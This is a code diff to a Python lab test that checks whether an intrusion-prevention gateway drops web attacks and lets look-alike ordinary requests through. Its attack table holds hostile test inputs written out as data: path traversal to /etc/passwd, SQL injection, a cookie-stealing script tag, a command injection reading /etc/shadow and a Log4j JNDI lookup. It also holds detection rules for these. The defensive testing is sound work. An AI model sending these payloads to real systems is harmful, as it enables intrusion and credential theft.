@@ -6,6 +6,7 @@ import pathlib
 import struct
 import subprocess
 import sys
+import time
 
 sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
 from lab_network import (  # noqa: E402
@@ -15,39 +16,7 @@ TRAFFIC = pathlib.Path(__file__).resolve().parent / "traffic.py"
 DENIED_IP4 = "10.77.0.66"
 SOURCE_RATE = 2000
 FLOOD = 40_000
-RULES = r"""
-pack: quickstart
-version: 1
-rules:
-  - id: 1
-    name: a path that leads out of the site
-    class: web-application-attack
-    severity: high
-    stage: enforce
-    action: drop
-    when: {proto: tcp, service: http, direction: to_server}
-    match:
-      - http.uri: {contains: "/etc/passwd"}
-  - id: 2
-    name: UNION SELECT in a query
-    class: web-application-attack
-    severity: high
-    stage: enforce
-    action: drop
-    when: {proto: tcp, service: http, direction: to_server}
-    match:
-      - http.uri: {pcre: '\bunion\b.{1,40}\bselect\b', nocase: true}
-  - id: 3
-    name: a command in a form
-    class: web-application-attack
-    severity: high
-    stage: enforce
-    action: drop
-    when: {proto: tcp, service: http, direction: to_server}
-    match:
-      - http.method: {equals: POST}
-      - http.request_body: {contains: "/bin/sh", nocase: true}
-"""
+PACKS = sorted((pathlib.Path(__file__).resolve().parent.parent / "rules/packs").glob("*.yaml"))
 POLICY = f"""
 lists:
   deny:
@@ -57,15 +26,25 @@ limits:
     packets: {SOURCE_RATE}/s
     packets_burst: {SOURCE_RATE}
 rules:
-  files: [RULES]
+  files: [{", ".join(map(str, PACKS))}]
 """
 # What a browser asks, what looks like an attack and is none, and attacks as they are hidden.
-PAGES = ["?q=union+hall", "?q=select+a+union+of+colours", "?doc=etc/password-policy"]
+PAGES = ["?q=union+hall", "?q=select+a+union+of+colours", "?doc=etc/password-policy",
+         "?q=rock+%26+roll%3B+fun", "?q=%3C3+you", "?next=/list%3Fpage%3D2"]
+FORMS = ["name=O%27Brien&town=Cork", "comment=cut+%26+paste%2C+it+costs+%3C+5+%24"]
+# nginx alone has nothing that takes a form: 405 is its own answer.
+ANSWERED = ("200", "405")
+# Of a rule at stage alert: told, and answered.
+TOLD = "?q=select+username+from+all_users"
 WEB_ATTACKS = {
     "path traversal": ["?file=../../../etc/passwd"],
     "the same, percent-encoded": ["?file=%2e%2e%2f%65tc%2fpasswd"],
     "SQL injection": ["?id=1'+UNION+ALL+SELECT+user,password+FROM+users--"],
-    "a command in a form": ["", "--data", "host=a;/bin/sh -i"],
+    "SQL injection in a form": ["", "--data", "name=x%27%20or%20%271%27=%271"],
+    "cross-site scripting": ["?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"],
+    "a command in a form": ["", "--data", "host=a%3B%20cat%20/etc/shadow"],
+    "a look-up of Log4j in a header": ["", "-A", "${jndi:ldap://x.example/a}"],
+    "a tool by its name": ["", "-A", "sqlmap/1.8#stable (https://sqlmap.org)"],
 }
 
 
@@ -125,13 +104,30 @@ def fetch(lab, path, *options):
 
 
 def web(lab, tables):
-    answered = sum(fetch(lab, page) == "200" for page in PAGES)
-    tables.add("ordinary", "pages with words of attacks", f"{answered} of {len(PAGES)} answered",
-               answered == len(PAGES))
+    asked = [[page] for page in PAGES] + [["", "--data", form] for form in FORMS]
+    answered = sum(fetch(lab, *request) in ANSWERED for request in asked)
+    tables.add("ordinary", "pages and forms with words of attacks",
+               f"{answered} of {len(asked)} answered", answered == len(asked))
     for name, (path, *options) in WEB_ATTACKS.items():
         status = fetch(lab, path, *options)
         tables.add("attack", f"web: {name}",
                    "no answer" if status == "000" else f"answered with {status}", status == "000")
+    status = fetch(lab, TOLD)
+    is_told = tells(lab)
+    tables.add("ordinary", "a query that a rule at stage alert finds",
+               f"answered with {status}, {'told' if is_told else 'not told'}",
+               status in ANSWERED and is_told)
+
+
+def tells(lab):
+    """That query has become an alert, and nothing else."""
+    try:
+        wait_until(lambda: any(event["sluice"]["stage"] == "alert"
+                               and event["http"]["url"].endswith(TOLD)
+                               for event in lab.events("alert") if "http" in event), 5, "the alert")
+        return True
+    except LabError:
+        return False
 
 
 def flood(lab, tables):
@@ -181,11 +177,13 @@ def show_reasons(lab):
               f"{event['timestamp']} {event.get('proto', '')} {event.get('src_ip', '')}:"
               f"{event.get('src_port', '')} -> {event.get('dest_ip', '')}:"
               f"{event.get('dest_port', '')} {event['drop']['reason']}")
-    for event in lab.events("alert")[-1:]:
-        print("\nOne of the alerts:\n  "
-              f"{event['timestamp']} rule {event['alert']['signature_id']}, "
-              f"{event['alert']['signature']}: {event['http']['http_method']} "
-              f"{event['http']['url']}")
+    alerts = [event for event in lab.events("alert") if "http" in event]
+    for stage, outcome in (("enforce", "refused"), ("alert", "told")):
+        for event in [event for event in alerts if event["sluice"]["stage"] == stage][-1:]:
+            print(f"\nOne of the alerts, stage {stage} ({outcome}):\n  "
+                  f"{event['timestamp']} rule {event['alert']['signature_id']}, "
+                  f"{event['alert']['signature']}: {event['http']['http_method']} "
+                  f"{event['http']['url']}")
     return reasons
 
 
@@ -194,10 +192,12 @@ def run(lab):
     content = os.urandom(20 << 20)
     print("3/4 wiring client -- sluiced run -- server")
     lab.serve_http({"large": content})
-    rules = lab.directory / "rules.yaml"
-    rules.write_text(RULES)
-    lab.start_gateway(lab.configuration(extra=POLICY.replace("RULES", str(rules))))
-    wait_until(lambda: fetch(lab, "?file=/etc/passwd") == "000", 20, "the rules to be in force")
+    lab.start_gateway(lab.configuration(extra=POLICY))
+    began = time.monotonic()
+    wait_until(lambda: fetch(lab, "?file=/etc/passwd") == "000" and lab.events("alert"), 120,
+               "the rules to be in force")
+    print(f"    the {len(PACKS)} packs of rules/packs are in force after "
+          f"{time.monotonic() - began:.1f} s")
     print("4/4 sending ordinary traffic and attacks")
     ordinary(lab, tables)
     download(lab, tables, content)
